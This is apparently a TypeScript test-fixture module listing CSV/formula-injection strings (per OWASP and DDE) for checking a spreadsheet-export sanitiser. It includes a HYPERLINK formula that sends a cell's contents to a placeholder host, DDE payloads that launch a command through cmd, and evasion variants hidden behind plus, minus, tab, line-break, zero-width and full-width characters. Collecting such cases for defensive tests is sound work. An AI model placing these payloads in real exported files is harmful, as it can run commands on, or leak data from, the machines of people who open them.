/** Texts that a spreadsheet would run, by what makes it do so (OWASP «CSV Injection»; DDE). */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  'a formula': '=1+1',
  'a link that sends the row away': '=HYPERLINK("http://127.0.0.1:1/?q="&A1;"нажмите")',
  'a command by DDE': "=cmd|' /C calc'!A0",
  'a command behind a plus': "+cmd|' /C calc'!A0",
  'a command behind a minus': "-2+3+cmd|' /C calc'!A0",
  'a function of old programs': '@SUM(1+1)*cmd|A0',
  'a formula behind a tab': '\t=1+1',
  'a formula behind a line break': '\r=1+1',
  'a formula behind a zero-width space': '\u200b=1+1',
  'a full-width formula': '＝1+1',
};
